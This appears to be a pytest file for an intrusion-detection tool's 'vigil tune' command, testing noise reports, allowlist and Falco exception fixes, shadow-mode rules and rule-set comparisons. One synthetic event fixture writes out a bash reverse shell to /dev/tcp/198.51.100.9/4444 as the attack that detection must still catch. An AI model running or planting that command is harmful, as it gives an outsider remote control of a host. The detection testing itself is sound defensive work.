"""`vigil tune` end to end (issue 16): the noise report, the narrowest fix, `--apply` into a
hand-written vigil.toml (comments kept) or a Falco exception file, and a replay that shows
exactly that noise gone and the attacks still there. Shadow mode: a shadowed rule's
matches are in the trail and in the report, never in a sink."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "night"))
sys.path.insert(0, str(HERE.parent / "alerts"))
sys.path.insert(0, str(HERE.parent / "detectors"))

import make_night  # noqa: E402
from alerts_servers import CHAT_ID, TOKEN, telegram_server, telegram_texts  # noqa: E402,F401
from detector_factories import execve, init, proc, sh_c  # noqa: E402

from vigil.agent import build_pipeline  # noqa: E402
from vigil.audit.query import RecordFilter, iter_records, latest_incidents  # noqa: E402
from vigil.cli import _register_all, app  # noqa: E402
from vigil.config import load_config  # noqa: E402
from vigil.events.jsonl import encode_event, read_events  # noqa: E402

NETWORK_DISCOVERY = "e7bd1cfa-b446-4c88-8afb-403bcd79e3fa"
_register_all()


def cli(*args: str):
    return CliRunner().invoke(app, list(args))


def replay(config: Path, recording: Path, agent_pid: int | None = None,
           alerts: bool | str = False) -> Path:
    built = build_pipeline(config=load_config(config), detectors=True, alerts=alerts,
                           agent_pid=agent_pid)
    assert not built.fatal, built.problems
    for ev in read_events(recording):
        built.pipeline.process(ev)
    built.close()
    return built.config.audit.path


def stories(trail: Path) -> dict[str, set[str]]:
    """Incident title -> the set of detection names in it, for every incident."""
    out: dict[str, set[str]] = {}
    for doc in latest_incidents(trail):
        out.setdefault(doc["title"], set()).update(g["name"] for g in doc["detections"])
    return out


HAND_WRITTEN = """\
# vigil.toml of web1 — edited by hand; keep these comments
state_dir = "{state}"   # where the trail lives

[rules]
falco = ["builtin"]
sigma = ["{sigma}"]   # SigmaHQ, read where it lives

# the environment's own exceptions
[allowlist]
ips = [{{ value = "192.0.2.10", reason = "monitoring host" }}]
"""


def night_config(tmp: Path, shared: Path, name: str = "vigil.toml") -> Path:
    cfg = tmp / name
    cfg.write_text(HAND_WRITTEN.format(state=tmp / name.replace(".toml", "-state"),
                                       sigma=shared / "rules" / "sigma" / "linux"))
    return cfg


def test_night_noise_report_fix_and_replay(tmp_path: Path, shared_dir: Path) -> None:
    cfg = night_config(tmp_path, shared_dir)
    trail = replay(cfg, make_night.OUT, make_night.AGENT_PID)
    before = stories(trail)
    r = cli("tune", "-c", str(cfg), "--since", "2026-11-01T00:00:00Z", "--json")
    assert r.exit_code == 0, r.output
    doc = json.loads(r.stdout)
    keys = [s["key"] for s in doc["sources"]]
    # the noisy sources, in order of the noise they make
    assert keys[:2] == ["detector:ssh_bruteforce", f"sigma:{NETWORK_DISCOVERY}"]
    assert doc["sources"][1]["detections"] == 42 and doc["sources"][1]["incidents"] == 42
    # one fix: the monitoring agent's `ip neigh show`; the brute force (an attack, from
    # twelve places) gets none
    [sug] = doc["suggestions"]
    assert sug["value"] == NETWORK_DISCOVERY and sug["covered"] == sug["total"] == 42
    assert sug["scope"] == {"processes": ["/usr/sbin/ip"], "parents": ["/opt/netmon/agent.py"]}
    text_report = cli("tune", "-c", str(cfg), "--since", "2026-11-01T00:00:00Z")
    assert "[1] sigma:" + NETWORK_DISCOVERY in text_report.stdout
    assert "no fix suggested: detector:ssh_bruteforce" in text_report.stdout

    applied = cli("tune", "-c", str(cfg), "--apply", "1", "--yes")
    assert applied.exit_code == 0, applied.output
    new_text = cfg.read_text()
    # golden: the hand-written file is untouched but for the added entry
    old_lines = HAND_WRITTEN.format(state=tmp_path / "vigil-state",
                                    sigma=shared_dir / "rules" / "sigma" / "linux").splitlines()
    assert new_text.splitlines()[:len(old_lines)] == old_lines
    added = new_text.splitlines()[len(old_lines):]
    assert added == [
        "",
        "[allowlist.rules]",
        "suppress = [",
        f'    {{value = "{NETWORK_DISCOVERY}", processes = ["/usr/sbin/ip"], parents = '
        '["/opt/netmon/agent.py"], reason = "TODO: say why this is normal on this host"},',
        "]",
    ]
    # the same night again, with the fix: exactly that noise is gone
    trail.rename(tmp_path / "audit-before")
    after_trail = replay(cfg, make_night.OUT, make_night.AGENT_PID)
    after = stories(after_trail)
    gone = {t for t, names in before.items() if names == {"System Network Discovery - Linux"}}
    assert gone and set(after) == set(before) - gone
    sup = [r for r in iter_records(after_trail, RecordFilter(types=frozenset({"suppressed"})))
           if r.rule_id == NETWORK_DISCOVERY]
    assert len(sup) == 42
    assert sup[0].suppression["entry"].startswith(f"allowlist.rules.suppress={NETWORK_DISCOVERY} "
                                                  "(processes=/usr/sbin/ip")


def test_apply_is_refused_when_the_config_changed_or_would_not_validate(
        tmp_path: Path, shared_dir: Path) -> None:
    cfg = night_config(tmp_path, shared_dir)
    replay(cfg, make_night.OUT, make_night.AGENT_PID)
    assert cli("tune", "-c", str(cfg), "--since", "2026-11-01T00:00:00Z").exit_code == 0
    cfg.write_text(cfg.read_text() + "\n# edited meanwhile\n")
    r = cli("tune", "-c", str(cfg), "--apply", "1", "--yes")
    assert r.exit_code == 2 and "changed since the report" in r.output
    assert "Traceback" not in r.output
    # a report whose suggestion would make the file invalid (a scope that is not an IP)
    assert cli("tune", "-c", str(cfg), "--since", "2026-11-01T00:00:00Z").exit_code == 0
    state = load_config(cfg).state_dir
    report = json.loads((state / "tune-report.json").read_text())
    report["suggestions"][0]["scope"] = {"ips": ["not-an-address"]}
    (state / "tune-report.json").write_text(json.dumps(report))
    before = cfg.read_text()
    r = cli("tune", "-c", str(cfg), "--apply", "1", "--yes")
    assert r.exit_code == 2 and "would not be a valid configuration" in r.output
    assert cfg.read_text() == before
    assert cli("tune", "-c", str(cfg), "--apply", "9", "--yes").exit_code == 2


BUILD_RULES = """\
- rule: Shell spawned by make
  desc: a site rule that turned out noisy on the build host
  condition: evt.type = execve and proc.name = sh and proc.pname = make
  output: "shell under make (command=%proc.cmdline)"
  priority: NOTICE
"""


def build_host_recording(path: Path) -> None:
    """An hour of CI builds (make runs `sh -c cc ...` 30 times), and one attack: a
    reverse shell started from a CI job."""
    runner = proc("/usr/bin/gitlab-runner", "run", pid=600, parent=init(), start_ts=1)
    lines = []
    t0 = 1_796_000_000 * 10**9
    for i in range(30):
        job = proc("/usr/bin/bash", "job.sh", pid=1000 + 10 * i, parent=runner,
                   start_ts=t0 + i * 120 * 10**9)
        make = proc("/usr/bin/make", "-j2", pid=1001 + 10 * i, parent=job,
                    start_ts=t0 + i * 120 * 10**9 + 1)
        for k in range(3):
            sh = sh_c(f"cc -c file{k}.c", parent=make, pid=1002 + 10 * i + k)
            lines.append(encode_event(execve(sh, ts=t0 + i * 120 * 10**9 + k * 10**8)))
    job = proc("/usr/bin/bash", "job.sh", pid=9000, parent=runner, start_ts=t0 + 3700 * 10**9)
    shell = sh_c("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", parent=job, pid=9001,
                 exepath="/usr/bin/bash")
    lines.append(encode_event(execve(shell, ts=t0 + 3700 * 10**9)))
    path.write_bytes(b"".join(lines))


def test_build_host_noise_fixed_by_a_falco_exception(tmp_path: Path) -> None:
    local = tmp_path / "rules.d"
    local.mkdir()
    site = tmp_path / "site.yaml"
    site.write_text(BUILD_RULES)
    cfg = tmp_path / "vigil.toml"
    cfg.write_text(f'state_dir = "{tmp_path / "state"}"\n[rules]\n'
                   f'falco = ["builtin", "{site}", "{local}"]\n'
                   f'local_rules_dir = "{local}"\n')
    rec = tmp_path / "build.jsonl"
    build_host_recording(rec)
    trail = replay(cfg, rec)
    before = stories(trail)
    assert "Shell spawned by make" in before and any("shell" in t.lower() and t !=
                                                     "Shell spawned by make" for t in before)
    r = cli("tune", "-c", str(cfg), "--since", "2026-01-01T00:00:00Z", "--json")
    doc = json.loads(r.stdout)
    sug = next(s for s in doc["suggestions"] if s["value"] == "Shell spawned by make")
    assert sug["scope"]["processes"] == ["/usr/bin/dash"]
    assert sug["falco_yaml"] and "override:" in sug["falco_yaml"]
    applied = cli("tune", "-c", str(cfg), "--apply", str(sug["number"]), "--as", "falco",
                  "--yes")
    assert applied.exit_code == 0, applied.output
    [written] = list(local.glob("vigil-tune-*.yaml"))
    assert "exceptions:" in written.read_text()
    assert site.read_text() == BUILD_RULES  # third-party files are never edited
    (tmp_path / "state" / "audit").rename(tmp_path / "audit-before")
    after = stories(replay(cfg, rec))
    assert "Shell spawned by make" not in after
    assert set(after) == set(before) - {"Shell spawned by make"}


def test_bad_trails_never_crash_tune(tmp_path: Path, shared_dir: Path) -> None:
    cfg = night_config(tmp_path, shared_dir)
    state = load_config(cfg).state_dir
    r = cli("tune", "-c", str(cfg))
    assert r.exit_code == 2 and "no audit trail" in r.output
    trail = replay(cfg, make_night.OUT, make_night.AGENT_PID)
    files = sorted(trail.glob("*.jsonl"))
    lines = files[-1].read_bytes().splitlines(keepends=True)
    # a forged line in the middle: the chain breaks there; tuning covers what verifies
    lines[200] = lines[200].replace(b"\"output\":\"", b"\"output\":\"forged ", 1)
    files[-1].write_bytes(b"".join(lines))
    r = cli("tune", "-c", str(cfg), "--since", "2026-11-01T00:00:00Z", "--json")
    assert r.exit_code == 0, r.output
    doc = json.loads(r.stdout)
    assert doc["chain_problem"] and ":201:" in doc["chain_problem"]
    assert doc["records"] == 200
    # garbage trail
    (state / "audit").rename(tmp_path / "old")
    (state / "audit").mkdir()
    (state / "audit" / "audit.jsonl").write_bytes(b"\x00\xff garbage\n{}\n")
    r = cli("tune", "-c", str(cfg), "--json")
    assert r.exit_code == 0 and json.loads(r.stdout)["records"] == 0
    assert "Traceback" not in r.output


def test_shadowed_rule_is_audited_and_reported_but_never_sent(
        tmp_path: Path, shared_dir: Path, telegram_server) -> None:
    cfg = night_config(tmp_path, shared_dir)
    cfg.write_text(cfg.read_text().replace(
        'sigma = [', f'shadow = [{{ value = "{NETWORK_DISCOVERY}", reason = "trial week" }}]\n'
                     'sigma = [') + f"""
[alerts.sinks.oncall]
type = "telegram"
token = "{TOKEN}"
chat_id = "{CHAT_ID}"
api_url = "{telegram_server.url}"

[[alerts.routes]]
sink = "oncall"
min_priority = "debug"
group_wait_secs = 0
""")
    trail = replay(cfg, make_night.OUT, make_night.AGENT_PID, alerts="replay")
    dets = [r for r in iter_records(trail, RecordFilter(types=frozenset({"detection"})))
            if r.rule_id == NETWORK_DISCOVERY]
    assert len(dets) == 42 and all(r.detection["shadow"] for r in dets)
    assert all(r.detection["data"]["shadow"] == f"rules.shadow={NETWORK_DISCOVERY} "
                                                "(trial week)" for r in dets)
    shadow_incidents = [d for d in latest_incidents(trail) if d["shadow"]]
    assert len(shadow_incidents) == 42
    texts = telegram_texts(telegram_server)
    assert texts and not any("Network Discovery" in t or "ip neigh" in t for t in texts)
    doc = json.loads(cli("tune", "-c", str(cfg), "--since", "2026-11-01T00:00:00Z",
                         "--json").stdout)
    src = next(s for s in doc["sources"] if s["key"] == f"sigma:{NETWORK_DISCOVERY}")
    assert (src["shadow"], src["shadow_incidents"], src["shadow_would_alert"]) == (42, 42, 42)
    assert src["detections"] == 0


def test_compare_stable_with_stable_plus_incubating_lists_the_extra_incidents(
        tmp_path: Path, shared_dir: Path) -> None:
    """What an upgrade changes: the same recording under two rule sets."""
    import yaml
    falco = shared_dir / "rules" / "falco"
    rec = tmp_path / "stable.jsonl"
    fixtures = sorted((HERE.parent / "falco" / "fixtures" / "stable").glob("*.jsonl"))
    rec.write_text("".join(p.read_text() for p in fixtures))
    r = cli("replay", str(rec), "--rules", str(falco / "falco_rules.yaml"),
            "--compare-rules", str(falco / "falco_rules.yaml"),
            "--compare-rules", str(falco / "falco-incubating_rules.yaml"), "--json")
    assert r.exit_code == 0, r.output
    doc = json.loads(r.stdout.splitlines()[-1])
    incubating = {item["rule"] for item in yaml.safe_load(
        (falco / "falco-incubating_rules.yaml").read_text()) if "rule" in item}
    assert doc["vanish"] == [] and doc["appear"]
    extra = {g["name"] for inc in doc["appear"] for g in inc["detections"]}
    extra |= {g["name"] for pair in doc["changed"] for g in pair["b"]["detections"]} - \
        {g["name"] for pair in doc["changed"] for g in pair["a"]["detections"]}
    assert extra and extra <= incubating
    text = cli("replay", str(rec), "--rules", str(falco / "falco_rules.yaml"),
               "--compare-rules", str(falco / "falco_rules.yaml"),
               "--compare-rules", str(falco / "falco-incubating_rules.yaml"))
    assert "incident(s) appear, 0 vanish" in text.stdout
    assert any(line.startswith("+ ") and "Launch Suspicious Network Tool" in line
               for line in text.stdout.splitlines())
